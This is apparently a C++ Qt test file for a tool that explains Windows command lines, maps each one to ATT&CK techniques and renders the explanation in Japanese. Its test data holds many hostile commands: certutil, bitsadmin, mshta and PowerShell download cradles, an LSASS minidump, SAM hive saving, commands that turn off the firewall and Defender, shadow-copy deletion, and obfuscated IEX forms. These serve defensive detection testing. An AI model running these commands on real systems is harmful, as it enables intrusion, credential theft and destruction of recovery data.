// SPDX-License-Identifier: GPL-3.0-or-later
// Every explainer, switch by switch: each argument of a known program gets a
// meaning in both languages, the findings and ATT&CK techniques each form
// should raise (schtasks schedule types and actions, at, wmic, net, reg, sc,
// powershell, cmd, rundll32, regsvr32, mshta, certutil, bitsadmin, netsh
// with its abbreviations, wmic /format), and Japanese output with no English
// left in it.

#include <QtTest>

#include "core/explain/explanation_json.h"
#include "core/explain/powershell_invocation.h"
#include "explain_test_support.h"

using namespace hitome::core;
using hitome::test::explain;
using hitome::test::findingOf;
using hitome::test::hasTechnique;
using hitome::test::param;

namespace {

// One line per explainer form; every argument must be explained.
const char* const kEveryForm[] = {
            "schtasks /create /sc minute /mo 5 /tn \"\\Microsoft\\Windows\\Upd\" /tr \"C:\\ProgramData\\u.exe\" /st 09:00 /sd 01/02/2024 /et 18:00 /ru SYSTEM /rl HIGHEST /f",
            "schtasks /create /s srv01 /u corp\\adm /p Secr3t /sc onstart /tn T1 /tr calc.exe /np /z /it",
            "schtasks /create /sc weekly /d MON /tn T2 /tr calc.exe",
            "schtasks /create /sc monthly /m JAN /tn T2 /tr calc.exe /ed 12/31/2025",
            "schtasks /create /sc onidle /i 10 /tn T2 /tr calc.exe",
            "schtasks /create /sc onevent /ec Security /mo \"*[System[EventID=4625]]\" /tn T2 /tr calc.exe",
            "schtasks /create /sc hourly /tn T2 /tr calc.exe /du 0010:00 /ri 30",
            "schtasks /create /sc onlogon /delay 0001:00 /tn T2 /tr calc.exe /rl limited",
            "schtasks /create /xml C:\\Users\\Public\\t.xml /tn T3",
            "schtasks /delete /tn T1 /f",
            "schtasks /run /tn T1",
            "schtasks /query /fo LIST /v",
            "schtasks /change /tn T1 /tr evil.exe /ru SYSTEM /rp P4ss",
            "schtasks /end /tn T1",
            "at \\\\host 12:00 /every:M cmd /c x.exe",
            "at 13:20 /interactive cmd",
            "at \\\\host 1 /delete /yes",
            "wmic /node:host /user:u /password:p process call create \"cmd /c x\"",
            "wmic shadowcopy delete /nointeractive",
            "wmic os get /format:evil.xsl",
            "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname",
            "wmic useraccount list full",
            "net user bob P@ss /add /domain",
            "net localgroup administrators bob /add",
            "net use \\\\h\\c$ /user:d\\u p",
            "net view \\\\h /all",
            "net group \"domain admins\" /domain",
            "net share",
            "net session",
            "net time \\\\h",
            "net start svc",
            "net stop svc",
            "net accounts",
            "net config workstation",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d C:\\x.exe /f",
            "reg query HKLM\\Software\\Microsoft /s",
            "reg export HKLM\\Software\\x f.reg /y",
            "reg save HKLM\\SAM sam.hiv",
            "reg delete HKCU\\Software\\x /v y /f",
            "sc create x binPath= C:\\x.exe start= auto DisplayName= \"Nice\"",
            "sc config x start= disabled",
            "sc start x",
            "sc qc x",
            "sc query x",
            "sc stop WinDefend",
            "powershell -nop -w hidden -noni -ep bypass -enc SQBFAFgA",
            "powershell -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1",
            "pwsh -c \"Get-Process\"",
            "cmd /c \"whoami & hostname\"",
            "cmd /k whoami",
            "cmd /q /c dir",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full",
            "regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll",
            "mshta http://10.0.0.9/a.hta",
            "certutil -urlcache -split -f http://10.0.0.9/a.exe a.exe",
            "certutil -decode a.b64 a.exe",
            "bitsadmin /transfer job /download /priority high http://10.0.0.9/a.exe C:\\Users\\Public\\a.exe",
            "netsh advfirewall set allprofiles state off",
            "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=3389",
            "netsh advf set allp state off",
            "netsh firewall set opmode disable",
            "netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectaddress=10.1.1.1 connectport=443",
            "netsh wlan show profile name=home key=clear",
            "vssadmin delete shadows /all /quiet",
};

// The knowledge base is part of the repository: missing entries are a failure.
#define REQUIRE_KB() QVERIFY2(hitome::test::builtinKb().size() >= 80, "resources/knowledge did not load")

}  // namespace

class TestExplainCommands : public QObject {
    Q_OBJECT
private slots:
    void everyArgumentIsExplained_data() {
        QTest::addColumn<QString>("line");
        for (const char* l : kEveryForm) QTest::newRow(l) << QString::fromUtf8(l);
    }
    void everyArgumentIsExplained() {
        REQUIRE_KB();
        QFETCH(QString, line);
        const auto ex = explain(line.toStdString());
        std::vector<std::string> missing;
        hitome::test::collectUnexplained(ex, missing);
        std::string list;
        for (const auto& m : missing) list += m + "\n";
        QVERIFY2(missing.empty(), list.c_str());
        QVERIFY(!ex.allTechniques().empty());
    }

    // Japanese: every label, finding and meaning has Japanese text, and the
    // rendered text has no English heading or role left.
    void japaneseOutputIsComplete_data() { everyArgumentIsExplained_data(); }
    void japaneseOutputIsComplete() {
        REQUIRE_KB();
        QFETCH(QString, line);
        const auto ex = explain(line.toStdString());
        const std::string problems = hitome::test::untranslated(ex);
        QVERIFY2(problems.empty(), problems.c_str());
        const std::string text = explanationToText(ex, Lang::Ja);
        for (const char* english : {"Command:", "Program:", "Arguments:", "Names in the command", "Findings:", "Runs (",
                                    "then,", "(truncated)", "[high]", "[medium]", "[low]", "[info]", "Part of",
                                    "(given", "scheduled program", "chain segment", "What to check next"})
            QVERIFY2(text.find(english) == std::string::npos, english);
        const auto json = explanationToJson(ex, Lang::Ja);
        for (const auto& f : json["findings"]) QVERIFY(f["severity_label"].get<std::string>() != f["severity"].get<std::string>());
        for (const auto& n : json["nested"])
            if (n.contains("role")) QVERIFY(n["role_label"].get<std::string>() != n["role"].get<std::string>());
    }

    void findingsAndTechniques_data() {
        QTest::addColumn<QString>("line");
        QTest::addColumn<QString>("finding");
        QTest::addColumn<QString>("technique");
        QTest::addColumn<QString>("entity");   // "kind=value" or empty
        auto row = [](const char* name, const char* line, const char* finding, const char* technique, const char* entity) {
            QTest::newRow(name) << QString::fromUtf8(line) << finding << technique << QString::fromUtf8(entity);
        };
        row("schtasks minute", "schtasks /create /sc minute /mo 5 /tn T /tr calc.exe", "schtasks.recurring", "T1053.005", "modifier=5");
        row("schtasks hourly", "schtasks /create /sc hourly /tn T /tr calc.exe", "schtasks.recurring", "T1053.005", "schedule=hourly");
        row("schtasks weekly", "schtasks /create /sc weekly /d MON /tn T /tr calc.exe", "schtasks.recurring", "T1053.005", "days=MON");
        row("schtasks monthly", "schtasks /create /sc monthly /m JAN /tn T /tr calc.exe", "schtasks.recurring", "T1053.005", "months=JAN");
        row("schtasks onstart", "schtasks /create /sc onstart /tn T /tr calc.exe", "schtasks.trigger_event", "T1053.005", "schedule=onstart");
        row("schtasks onlogon", "schtasks /create /sc onlogon /tn T /tr calc.exe", "schtasks.trigger_event", "T1053.005", "");
        row("schtasks onidle", "schtasks /create /sc onidle /i 10 /tn T /tr calc.exe", "schtasks.trigger_event", "T1053.005", "idle_time=10");
        row("schtasks onevent", "schtasks /create /sc onevent /ec Security /tn T /tr calc.exe", "schtasks.trigger_event", "T1053.005", "channel=Security");
        row("schtasks once", "schtasks /create /sc once /st 23:00 /sd 01/02/2025 /tn T /tr calc.exe", "schtasks.run_once", "T1053.005", "start_date=01/02/2025");
        row("schtasks end time", "schtasks /create /sc daily /et 18:00 /tn T /tr calc.exe", "schtasks.recurring", "T1053.005", "end_time=18:00");
        row("schtasks ru system", "schtasks /create /sc onlogon /ru \"NT AUTHORITY\\SYSTEM\" /tn T /tr calc.exe", "schtasks.system_persistence", "T1053.005", "run_as_user=NT AUTHORITY\\SYSTEM");
        row("schtasks rl highest", "schtasks /create /sc once /st 10:00 /rl HIGHEST /tn T /tr calc.exe", "schtasks.highest", "T1053.005", "run_level=HIGHEST");
        row("schtasks force", "schtasks /create /sc once /st 10:00 /tn T /tr calc.exe /f", "schtasks.force", "T1053.005", "");
        row("schtasks remote", "schtasks /create /s srv01 /u corp\\adm /p Pw1 /sc once /st 10:00 /tn T /tr calc.exe", "schtasks.remote", "T1053.005", "remote_host=srv01");
        row("schtasks password", "schtasks /create /s srv01 /u corp\\adm /p Pw1 /sc once /st 10:00 /tn T /tr calc.exe", "credentials.given", "T1053.005", "user=corp\\adm");
        row("schtasks xml", "schtasks /create /xml C:\\Users\\Public\\t.xml /tn T", "schtasks.xml", "T1053.005", "file=C:\\Users\\Public\\t.xml");
        row("schtasks delete", "schtasks /delete /tn T /f", "schtasks.delete", "T1053.005", "task_name=T");
        row("schtasks run", "schtasks /run /tn T", "schtasks.run", "T1053.005", "task_name=T");
        row("schtasks query", "schtasks /query /fo LIST /v", "schtasks.query", "T1053.005", "format=LIST");
        row("schtasks change", "schtasks /change /tn T /tr C:\\Users\\Public\\e.exe", "schtasks.change", "T1053.005", "program=C:\\Users\\Public\\e.exe");
        row("schtasks end", "schtasks /end /tn T", "schtasks.end", "T1053.005", "task_name=T");
        row("at local", "at 13:20 /interactive cmd", "at.interactive", "T1053.002", "start_time=13:20");
        row("at remote", "at \\\\host 12:00 /every:M cmd /c x.exe", "at.remote", "T1053.002", "remote_host=host");
        row("wmic remote", "wmic /node:10.0.0.6 /user:adm /password:pw process call create \"cmd /c x\"", "wmic.process_create", "T1047", "command=cmd /c x");
        row("wmic shadowcopy", "wmic shadowcopy delete /nointeractive", "wmic.shadow_delete", "T1490", "");
        row("wmic xsl url", "wmic os get /format:\"http://evil.example/a.xsl\"", "wmic.xsl_script", "T1220", "url=http://evil.example/a.xsl");
        row("wmic xsl file", "wmic process list /FORMAT:C:\\Users\\Public\\e.xsl", "wmic.xsl_script", "T1220", "stylesheet=C:\\Users\\Public\\e.xsl");
        row("net user add domain", "net user bob P@ss /add /domain", "net.user_add", "T1136.002", "user=bob");
        row("net localgroup add", "net localgroup administrators bob /add", "net.admin_group_add", "T1098", "group=administrators");
        row("net use", "net use \\\\h\\c$ /user:d\\u p", "net.use", "T1021.002", "remote_host=h");
        row("net view", "net view \\\\fs01", "net.discovery", "T1018", "remote_host=fs01");
        row("net group", "net group \"domain admins\" /domain", "net.discovery", "T1069.002", "group=domain admins");
        row("net share", "net share", "net.discovery", "T1135", "");
        row("net session", "net session", "net.discovery", "T1049", "");
        row("net time", "net time \\\\dc01", "net.discovery", "T1124", "remote_host=dc01");
        row("net start", "net start evilsvc", "net.service", "T1569.002", "service_name=evilsvc");
        row("net stop defender", "net stop WinDefend", "sc.stop_security", "T1685", "service_name=WinDefend");
        row("net1", "net1 user /domain", "net.discovery", "T1087.002", "");
        row("reg add run", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d C:\\x.exe /f", "reg.run_key", "T1547.001", "registry_value=x");
        row("reg query", "reg query HKLM\\Software\\Microsoft /s", "reg.query", "T1012", "registry_key=HKLM\\Software\\Microsoft");
        row("reg export", "reg export HKLM\\Software\\x f.reg /y", "reg.query", "T1012", "file=f.reg");
        row("reg save system", "reg save HKLM\\SYSTEM C:\\Temp\\s.hiv", "reg.hive_save", "T1003.002", "file=C:\\Temp\\s.hiv");
        row("reg delete", "reg delete HKCU\\Software\\x /v y /f", "reg.delete", "T1112", "registry_key=HKCU\\Software\\x");
        row("sc create", "sc create x binPath= C:\\x.exe start= auto", "sc.autostart", "T1543.003", "service_binary=C:\\x.exe");
        row("sc config", "sc config x start= disabled", "sc.config", "T1543.003", "service_name=x");
        row("sc start", "sc start x", "sc.start", "T1569.002", "service_name=x");
        row("sc qc", "sc qc x", "sc.query", "T1007", "service_name=x");
        row("sc stop defender", "sc stop WinDefend", "sc.stop_security", "T1685", "service_name=WinDefend");
        row("ps hidden bypass", "powershell -nop -w hidden -noni -ep bypass -c whoami", "ps.bypass_policy", "T1564.003", "");
        row("ps download cradle", "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')\"", "ps.download_cradle", "T1105", "url=http://10.0.0.9/a.ps1");
        row("ps file", "powershell -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1", "ps.bypass_policy", "T1059.001", "file=C:\\Users\\Public\\a.ps1");
        row("cmd chain", "cmd /c \"whoami & hostname\"", "cmd.chain", "T1059.003", "command=whoami & hostname");
        row("cmd redirect in chain", "cmd /c \"whoami & ipconfig > C:\\Users\\Public\\o.txt\"", "cmd.redirect", "T1059.003", "");
        row("rundll32 minidump", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full", "rundll32.minidump", "T1003.001", "output_file=C:\\Windows\\Temp\\l.dmp");
        row("rundll32 javascript", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "rundll32.script", "T1218.011", "");
        row("regsvr32", "regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll", "regsvr32.squiblydoo", "T1218.010", "url=http://10.0.0.9/a.sct");
        row("mshta url", "mshta http://10.0.0.9/a.hta", "lolbin.remote_script", "T1218.005", "url=http://10.0.0.9/a.hta");
        row("mshta vbscript", "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")", "mshta.inline_script", "T1059.005", "");
        row("certutil urlcache", "certutil -urlcache -split -f http://10.0.0.9/a.exe a.exe", "certutil.download", "T1105", "output_file=a.exe");
        row("certutil decode", "certutil -decode a.b64 a.exe", "certutil.decode", "T1140", "output_file=a.exe");
        row("bitsadmin transfer", "bitsadmin /transfer job /download /priority high http://10.0.0.9/a.exe C:\\Users\\Public\\a.exe", "bitsadmin.transfer", "T1197", "job_name=job");
        row("bitsadmin notify", "bitsadmin /SetNotifyCmdLine job C:\\Users\\Public\\a.exe NULL", "bitsadmin.notify_command", "T1197", "");
        row("netsh firewall off", "netsh advfirewall set allprofiles state off", "netsh.firewall_off", "T1686.003", "");
        row("netsh rule add", "netsh advfirewall firewall add rule name=rdp dir=in action=allow protocol=TCP localport=3389", "netsh.firewall_rule", "T1686.003", "port=3389");
        row("netsh legacy off", "netsh firewall set opmode disable", "netsh.firewall_off", "T1686.003", "");
        row("netsh legacy port", "netsh firewall add portopening TCP 4444 backdoor", "netsh.firewall_rule", "T1686.003", "rule_name=backdoor");
        row("netsh portproxy", "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.1.1.1 connectport=443", "netsh.portproxy", "T1090", "remote_host=10.1.1.1");
        row("netsh wifi keys", "netsh wlan show profile name=home key=clear", "netsh.wifi_keys", "T1552.001", "");
        row("netsh helper", "netsh add helper C:\\Users\\Public\\h.dll", "netsh.helper_dll", "T1546.007", "dll=C:\\Users\\Public\\h.dll");
        row("netsh remote", "netsh -r srv02 -u corp\\adm -p Pw1 advfirewall set allprofiles state off", "netsh.remote", "T1686.003", "remote_host=srv02");
        row("vssadmin", "vssadmin delete shadows /all /quiet", "vss.delete", "T1490", "");
    }
    void findingsAndTechniques() {
        QFETCH(QString, line);
        QFETCH(QString, finding);
        QFETCH(QString, technique);
        QFETCH(QString, entity);
        const auto ex = explain(line.toStdString());
        const std::string text = explanationToText(ex, Lang::En);
        QVERIFY2(findingOf(ex, finding.toStdString()), text.c_str());
        QVERIFY2(hasTechnique(ex, technique.toStdString()), text.c_str());
        if (!entity.isEmpty()) {
            const auto kv = entity.toStdString();
            const auto eq = kv.find('=');
            bool found = false;
            std::function<void(const Explanation&)> look = [&](const Explanation& e) {
                for (const auto& en : e.entities) found = found || (en.kind == kv.substr(0, eq) && en.value == kv.substr(eq + 1));
                for (const auto& n : e.nested) look(n);
            };
            look(ex);
            QVERIFY2(found, (kv + "\n" + text).c_str());
        }
        for (const char* secret : {"Pw1", "P@ss", "/password:pw"})
            QVERIFY2(explanationToJson(ex, Lang::En).dump().find(secret) == std::string::npos, secret);
    }

    // netsh accepts any unique prefix of a context or command.
    void netshAbbreviations_data() {
        QTest::addColumn<QString>("shortForm");
        QTest::addColumn<QString>("finding");
        QTest::newRow("advf allp") << "netsh advf set allp state off" << "netsh.firewall_off";
        QTest::newRow("adv cu st") << "netsh adv set cu st off" << "netsh.firewall_off";
        QTest::newRow("fi opm") << "netsh fi set opm disable" << "netsh.firewall_off";
        QTest::newRow("advf fi a r") << "netsh advf fi a r name=x dir=in action=allow localport=445" << "netsh.firewall_rule";
        QTest::newRow("int portproxy") << "netsh int portproxy add v4tov4 listenport=1 connectaddress=h connectport=2" << "netsh.portproxy";
        QTest::newRow("in p a") << "netsh in p a v4tov4 listenport=1 connectaddress=h connectport=2" << "netsh.portproxy";
        QTest::newRow("upper case") << "NETSH ADVFIREWALL SET ALLPROFILES STATE OFF" << "netsh.firewall_off";
    }
    void netshAbbreviations() {
        QFETCH(QString, shortForm);
        QFETCH(QString, finding);
        const auto ex = explain(shortForm.toStdString());
        QVERIFY2(findingOf(ex, finding.toStdString()), explanationToText(ex, Lang::En).c_str());
        if (hitome::test::builtinKb().size() >= 80) {
            // The first keyword is explained; an abbreviation is spelled out in front of its meaning.
            const std::string& meaning = ex.arguments[1].meaning.en;
            const bool isAbbreviated = ex.arguments[1].text.size() < 6;
            QVERIFY2(isAbbreviated ? meaning.find(" = ") != std::string::npos : !meaning.empty(), meaning.c_str());
        }
    }
    void netshNonMatches() {
        QVERIFY(!findingOf(explain("netsh a set allprofiles state off"), "netsh.firewall_off"));   // "a": add or advfirewall
        QVERIFY(!findingOf(explain("netsh advfirewall show allprofiles state"), "netsh.firewall_off"));
        QVERIFY(!findingOf(explain("netsh advfirewall set allprofiles state on"), "netsh.firewall_off"));
        QVERIFY(!findingOf(explain("netsh interface portproxy show all"), "netsh.portproxy"));
        QVERIFY(!findingOf(explain("netsh wlan show profiles"), "netsh.wifi_keys"));
    }

    void wmicBuiltinFormatsAreHarmless_data() {
        QTest::addColumn<QString>("line");
        for (const char* l : {"wmic process list /format:list", "wmic os get /format:csv", "wmic qfe list brief /format:htable.xsl",
                              "wmic useraccount list /format:\"table\"", "wmic process get name /format:value"})
            QTest::newRow(l) << QString::fromUtf8(l);
    }
    void wmicBuiltinFormatsAreHarmless() {
        QFETCH(QString, line);
        const auto ex = explain(line.toStdString());
        QVERIFY(!findingOf(ex, "wmic.xsl_script"));
        QVERIFY(!hasTechnique(ex, "T1220"));
    }

    // IEX as a command word and the usual obfuscated invocations; never a
    // word that merely contains the letters.
    void expressionInvocation_data() {
        QTest::addColumn<QString>("script");
        QTest::addColumn<bool>("invokes");
        auto row = [](const char* s, bool v) { QTest::newRow(s) << QString::fromUtf8(s) << v; };
        row("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", true);
        row("iex($code)", true);
        row("$c | iex", true);
        row("$c|IEX", true);
        row("Invoke-Expression -Command $c", true);
        row("invoke-expression $c", true);
        row("I`E`X $c", true);
        row("In`voke-Exp`ression $c", true);
        row("&('ie'+'x') $c", true);
        row("& ( 'I' + 'EX' ) $c", true);
        row("& 'iex' $c", true);
        row(".($pshome[4]+$pshome[30]+'x') $c", true);
        row("&($shellid[1]+$shellid[13]+'x') $c", true);
        row("&($env:comspec[4,15,25]-join'') $c", true);
        row(". ( $VerbosePreference.ToString()[1,3]+'x'-join'') $c", true);
        row("&([scriptblock]::Create($s))", true);
        row("[ScriptBlock]::Create($s).Invoke()", true);
        row("suffix", false);
        row("Start-Process iexplore.exe", false);
        row("& 'C:\\Program Files\\Internet Explorer\\iexplore.exe' http://x", false);
        row("$iex = 1; $iex", false);
        row("$obj.iex", false);
        row("Get-Item C:\\iex\\file.txt", false);
        row("Get-ChildItem .\\iex.ps1", false);
        row("Write-Host 'iex'", false);
        row("Get-Thing -iexist", false);
        row("$a.Split('.')", false);
        row("& $exe /quiet", false);
        row("& ('notepad'+'.exe')", false);
        row("Get-Process | Select-Object Name", false);
    }
    void expressionInvocation() {
        QFETCH(QString, script);
        QFETCH(bool, invokes);
        const std::string form = findExpressionInvocation(script.toStdString());
        QCOMPARE(!form.empty(), invokes);
        const auto ex = explain("powershell -nop -c \"" + script.toStdString() + "\"");
        QCOMPARE(findingOf(ex, "ps.iex") != nullptr, invokes);
    }
    void expressionInvocationIsBounded() {
        std::string hostile;
        while (hostile.size() < (1u << 20)) hostile += "&(.(";
        QVERIFY(findExpressionInvocation(hostile).empty());
        // No timed assertion: a super-linear scan of these megabytes would not
        // finish within ctest's timeout, which is what catches it.
    }

    // A PowerShell script that is itself a Windows command is explained as one.
    void decodedCommandIsExplained() {
        const std::string script = "schtasks /Create /F /RU SYSTEM /SC DAILY /ST 10:51 /TN Updater /TR calc.exe";
        const auto ex = explain("powershell.exe -NoP -NonI -W Hidden -enc " + hitome::test::utf16Base64(script));
        QCOMPARE(ex.decoded.front().text, script);
        QVERIFY(findingOf(ex, "schtasks.system_persistence"));
        QCOMPARE(ex.nested.size(), size_t{1});
        QCOMPARE(ex.nested[0].role, std::string("command in the script"));
        QVERIFY(explain("powershell -c \"Get-Process; whoami\"").nested.empty());   // a script, not one command
        QVERIFY(explain("powershell -c \"set x 1\"").nested.empty());                // a PowerShell alias
    }

    void userSwitchIsNotTheUserSubcommand() {
        REQUIRE_KB();
        const auto ex = explain("net use \\\\fs01\\c$ /user:corp\\adm pw");
        QVERIFY(ex.arguments[3].meaning.en.find("net use") != std::string::npos);   // the /user switch, not "net user"
        const auto sc = explain("sc create x binPath= C:\\x.exe start= auto");
        QVERIFY2(sc.arguments[5].meaning.en.find("Start type") != std::string::npos, sc.arguments[5].meaning.en.c_str());
    }
};

QTEST_APPLESS_MAIN(TestExplainCommands)
#include "test_explain_commands.moc"
